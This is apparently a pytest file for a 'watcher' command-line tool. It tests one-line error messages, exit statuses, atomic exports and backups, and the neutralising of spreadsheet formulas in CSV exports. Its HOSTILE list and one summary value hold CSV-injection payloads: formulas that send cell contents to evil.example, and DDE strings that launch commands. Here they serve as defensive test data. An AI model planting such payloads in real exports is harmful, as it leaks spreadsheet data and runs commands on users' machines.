"""The CLI's error contract: one line, the right exit status, a traceback only
on request; and CSV output that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import errno
import io
import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from typing import IO, Any

import pytest
from click.testing import CliRunner

from watcher.cli import main
from watcher.exceptions import WatcherError
from watcher.files import csv_cell, csv_row
from watcher.models import CollectedItem
from watcher.store.items import save_item

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


def test_other_cells_are_kept_as_they_are():
    assert csv_row(["Appel à projets", 42, None, "", "a=b", "3-4"]) == [
        "Appel à projets",
        42,
        None,
        "",
        "a=b",
        "3-4",
    ]
    assert csv_row({"title": "=1", "id": 7}) == {"title": "'=1", "id": 7}


def test_export_csv_neutralises_titles_from_the_web(store):
    for number, title in enumerate(HOSTILE):
        save_item(
            store,
            CollectedItem(
                source_id="s",
                url=f"https://example.org/{number}",
                title=title,
                text=f"Texte {number}",
                summary='=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
            ),
            now=datetime(2026, 11, 24, tzinfo=UTC),
        )
    result = CliRunner().invoke(main, ["export", "--format", "csv", "--db", store.url])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(HOSTILE)
    assert all(row["title"].startswith("'") for row in rows), [row["title"] for row in rows]
    assert "'" + HOSTILE[0] in [row["title"] for row in rows]
    assert all(row["summary"].startswith("'=IMPORTXML") for row in rows)


def _save_items(store, count: int) -> None:
    for number in range(count):
        save_item(
            store,
            CollectedItem(
                source_id="s", url=f"https://example.org/{number}", title=f"Item {number}"
            ),
            now=datetime(2026, 11, 24, tzinfo=UTC),
        )


def _failing_half_way(monkeypatch) -> None:
    """export_rows yields one item, then the database breaks (a damaged page)."""
    import sqlite3

    from sqlalchemy.exc import OperationalError

    from watcher.store import items

    real = items.export_rows

    def half_way(store):
        rows = real(store)
        yield next(rows)
        raise OperationalError(
            "SELECT …", {}, sqlite3.DatabaseError("database disk image is malformed")
        )

    monkeypatch.setattr(items, "export_rows", half_way)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_export_the_store_breaks_writes_nothing(store, monkeypatch, fmt):
    _save_items(store, 3)
    _failing_half_way(monkeypatch)
    result = CliRunner().invoke(main, ["export", "--format", fmt, "--db", store.url])
    assert result.exit_code == 1
    assert result.stdout == ""  # no header, no first item: nothing that looks like an export
    assert result.stderr == (
        f"Error: {store.shown}: the database failed: database disk image is malformed\n"
    )


def test_an_export_to_a_file_replaces_it_whole_or_not_at_all(store, monkeypatch, tmp_path):
    _save_items(store, 3)
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "items.csv"
    target.write_text("the previous export\n", encoding="utf-8")
    args = ["export", "--format", "csv", "--output", str(target), "--db", store.url]
    with monkeypatch.context() as patch:
        _failing_half_way(patch)
        failed = CliRunner().invoke(main, args)
    assert failed.exit_code == 1 and failed.stdout == ""
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert sorted(p.name for p in target.parent.iterdir()) == ["items.csv"]  # no temporary left

    done = CliRunner().invoke(main, args)
    assert done.exit_code == 0, done.output
    assert done.stdout == f"3 item(s) written to {target}\n"
    to_stdout = CliRunner().invoke(main, ["export", "--format", "csv", "--db", store.url])
    assert target.read_bytes() == to_stdout.stdout_bytes
    assert sorted(p.name for p in target.parent.iterdir()) == ["items.csv"]


def test_a_database_locked_by_another_process_is_busy_not_failed(tmp_path, monkeypatch):
    # "the database failed: database is locked" read as damage; it is another
    # process's write (a crawl, the desk) that outlasted the busy timeout.
    import sqlite3

    from watcher.store import Store

    db = tmp_path / "watcher.db"
    Store(db).close()
    monkeypatch.setattr("watcher.store.BUSY_TIMEOUT_S", 0.2)
    holder = sqlite3.connect(db, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        result = CliRunner().invoke(main, ["subscribers", "add", "a@example.org", "--db", str(db)])
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 1, result.output
    assert result.stderr == (
        f"Error: {db}: busy: another process kept the database locked for 0.2 s; the step "
        "this command was on was not saved (nothing is half-written): run it again once "
        "the other is done\n"
    )
    again = CliRunner().invoke(main, ["subscribers", "add", "a@example.org", "--db", str(db)])
    assert again.exit_code == 0, again.output


def test_a_damaged_database_is_one_line_naming_it(tmp_path):
    from watcher.store import Store

    db = tmp_path / "watcher.db"
    with Store(db) as store:
        _save_items(store, 2)
        with store.begin() as connection:
            connection.exec_driver_sql("DROP TABLE item_labels")
    result = CliRunner().invoke(main, ["export", "--format", "csv", "--db", str(db)])
    assert result.exit_code == 1 and result.stdout == ""
    assert result.stderr == f"Error: {db}: the database failed: no such table: item_labels\n"


def _boom(*_args, **_kwargs):
    raise RuntimeError("something nobody expected\nsecond line")


def test_an_unexpected_error_is_one_line_and_exit_1(store, monkeypatch):
    monkeypatch.delenv("WATCHER_DEBUG", raising=False)
    monkeypatch.setattr("watcher.store.items.export_rows", _boom)
    result = CliRunner().invoke(main, ["export", "--db", store.url])
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: unexpected RuntimeError: something nobody expected (this is a bug; "
        "`watcher --debug …` or WATCHER_DEBUG=1 shows the traceback)\n"
    )


@pytest.mark.parametrize(
    ("args", "env"),
    [
        (["--debug", "export"], {}),
        (["export", "--debug"], {}),
        (["export"], {"WATCHER_DEBUG": "1"}),
    ],
)
def test_debug_shows_the_traceback(store, monkeypatch, args, env):
    monkeypatch.setattr("watcher.store.items.export_rows", _boom)
    result = CliRunner().invoke(main, [*args, "--db", store.url], env=env)
    assert isinstance(result.exception, RuntimeError)  # raised, so Python prints its traceback


def test_a_file_error_names_the_file(tmp_path, store):
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where a folder should be\n", encoding="utf-8")
    settings = tmp_path / "watcher.toml"
    settings.write_text(f'[publish]\nsite_dir = "{blocker}/site"\n', encoding="utf-8")
    args = ["--db", store.url, "--settings", str(settings)]
    site = CliRunner().invoke(main, ["site", "build", *args])
    assert site.exit_code == 1
    assert site.stderr == f"Error: {blocker}: is a file, where a folder is needed\n"
    saved = CliRunner().invoke(main, ["backup", *args, "--to", str(blocker / "b")])
    assert saved.exit_code == 1
    assert saved.stderr == f"Error: {blocker / 'b'}: cannot write a backup there (File exists)\n"


@pytest.mark.parametrize("setting", ["blocker", "blocker/backups"])
def test_a_backup_dir_that_is_a_file_names_the_setting(tmp_path, store, setting):
    (tmp_path / "blocker").write_text("a file where a folder should be\n", encoding="utf-8")
    settings = tmp_path / "watcher.toml"
    backup_dir = tmp_path / setting
    settings.write_text(f'[schedule]\nbackup_dir = "{backup_dir}"\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["backup", "--db", store.url, "--settings", str(settings)])
    assert result.exit_code == 2
    what = "is a file" if setting == "blocker" else f"{tmp_path / 'blocker'} is a file"
    assert result.stderr == (
        f"Error: schedule.backup_dir = '{backup_dir}': {what}, where a folder is needed\n"
        "Hint: point schedule.backup_dir at a folder, or give one with --to\n"
    )


def test_an_empty_smtp_host_is_one_line_naming_it(tmp_path, store):
    settings = tmp_path / "watcher.toml"
    settings.write_text('[delivery]\nsmtp_host = ""\n', encoding="utf-8")
    args = ["--db", store.url, "--settings", str(settings)]
    result = CliRunner().invoke(main, ["send", "--week", "2026-W48", *args])
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {settings}: delivery.smtp_host = '': not a host name; give the SMTP "
        "server's name or address, e.g. localhost\n"
    )


def test_a_closed_pipe_ends_quietly(store, monkeypatch):
    def closed(*_args, **_kwargs):
        raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr("watcher.store.items.export_rows", closed)
    result = CliRunner().invoke(main, ["export", "--db", store.url])
    assert result.exit_code == 1 and result.stderr == ""


def test_a_full_output_is_one_error_line(store):
    env = {**os.environ, "WATCHER_SETTINGS": ""}
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "watcher", "--db", store.url, "status"],
            env=env,
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
        )
    assert result.returncode == 1
    assert result.stderr == "Error: cannot write the output: No space left on device\n"


def test_a_failed_backup_leaves_nothing_that_looks_like_a_backup(tmp_path, store):
    from watcher.schedule.ops import backup
    from watcher.settings import Settings

    model = tmp_path / "model"
    model.mkdir()
    (model / "model.joblib").write_bytes(b"x")
    (model / "gone").symlink_to(tmp_path / "nowhere")  # copytree fails on it, at the end
    settings = Settings.model_validate({"classify": {"model_dir": str(model)}})
    with pytest.raises(OSError):
        backup(store, settings, tmp_path / "bk" / "one")
    assert list((tmp_path / "bk").iterdir()) == []

    (model / "gone").unlink()
    report = backup(store, settings, tmp_path / "bk" / "one")
    assert sorted(p.name for p in report.folder.iterdir()) == [
        "manifest.json",
        "model",
        "watcher.db" if store.is_sqlite else "watcher.pgdump",
    ]
    with pytest.raises(WatcherError, match="already exists and is not an empty folder"):
        backup(store, settings, tmp_path / "bk" / "one")


def test_a_broken_settings_file_is_reported_before_a_missing_database(tmp_path):
    settings = tmp_path / "watcher.toml"
    settings.write_text("[desk\nport = 1\n", encoding="utf-8")
    missing = tmp_path / "missing.db"
    result = CliRunner().invoke(main, ["status", "--db", str(missing), "--settings", str(settings)])
    assert result.exit_code == 2
    assert result.stderr.startswith(f"Error: {settings}: not valid TOML")
    assert not missing.exists()


def _disk_full(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every file opened through os.fdopen (the atomic writers) fails its first
    write the way a full disk does: ENOSPC, with no file name attached."""
    real_fdopen = os.fdopen

    class FullFile(io.RawIOBase):
        def __init__(self, handle: IO[Any]) -> None:
            self.handle = handle

        def write(self, _data: Any) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

        def close(self) -> None:
            self.handle.close()
            super().close()

    monkeypatch.setattr(os, "fdopen", lambda fd, *a, **kw: FullFile(real_fdopen(fd, *a, **kw)))


def test_an_export_on_a_full_disk_names_the_file_and_keeps_the_previous(
    store, monkeypatch, tmp_path
):
    _save_items(store, 3)
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "items.jsonl"
    target.write_text("the previous export\n", encoding="utf-8")
    args = ["export", "--output", str(target), "--db", store.url]
    with monkeypatch.context() as patch:
        _disk_full(patch)
        failed = CliRunner().invoke(main, args)
    assert failed.exit_code == 1
    # It was "Error: cannot write the output: …", the message meant for stdout.
    assert failed.stderr == f"Error: {target}: No space left on device\n"
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in target.parent.iterdir()] == ["items.jsonl"]
    assert CliRunner().invoke(main, args).exit_code == 0


def test_a_killed_writers_temporary_file_is_removed_by_the_next_write(store, tmp_path):
    ended = subprocess.Popen(["true"])  # noqa: S607 - a pid whose process has ended
    ended.wait()
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "items.jsonl"
    left = folder / f".items.jsonl.k2j3h4.partial-{ended.pid}"
    left.write_text('{"half": ', encoding="utf-8")
    other = folder / f".other.jsonl.k2j3h4.partial-{ended.pid}"  # another file's: kept
    other.write_text("", encoding="utf-8")
    result = CliRunner().invoke(main, ["export", "--output", str(target), "--db", store.url])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in folder.iterdir()) == [other.name, "items.jsonl"]


@pytest.mark.sqlite_only  # the copy through SQLite's backup API
def test_a_backup_on_a_full_disk_is_one_line_naming_it(tmp_path, store, monkeypatch):
    import sqlite3

    from watcher.store import jobs

    real_connect = sqlite3.connect

    def small_disk(path: str, *args: Any, **kwargs: Any) -> sqlite3.Connection:
        connection = real_connect(path, *args, **kwargs)
        connection.execute("PRAGMA max_page_count = 2")  # SQLITE_FULL past two pages
        return connection

    _save_items(store, 3)
    model = tmp_path / "model"
    model.mkdir()
    (model / "model.joblib").write_bytes(b"x" * 1000)
    settings = tmp_path / "watcher.toml"
    settings.write_text(f'[classify]\nmodel_dir = "{model}"\n', encoding="utf-8")
    target = tmp_path / "bk" / "one"
    args = ["backup", "--db", store.url, "--settings", str(settings), "--to", str(target)]
    expected = f"Error: {target}: cannot write the backup (No space left on device)\n"
    with monkeypatch.context() as patch:  # the database's copy
        patch.setattr(jobs.sqlite3, "connect", small_disk)
        result = CliRunner().invoke(main, args)
    assert (result.exit_code, result.stderr) == (1, expected)  # "unexpected OperationalError"
    assert list(target.parent.iterdir()) == []

    def full_copy(src: Any, dst: Any, *_args: Any, **_kwargs: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(src), None, str(dst))

    with monkeypatch.context() as patch:  # the model's copy (sendfile: no write() to fail)
        patch.setattr(shutil, "copyfile", full_copy)
        result = CliRunner().invoke(main, args)
    assert (result.exit_code, result.stderr) == (1, expected)  # "unexpected Error: [(…)]"
    assert list(target.parent.iterdir()) == []
    done = CliRunner().invoke(main, args)
    assert done.exit_code == 0, done.output
    assert (target / "model" / "model.joblib").read_bytes() == b"x" * 1000
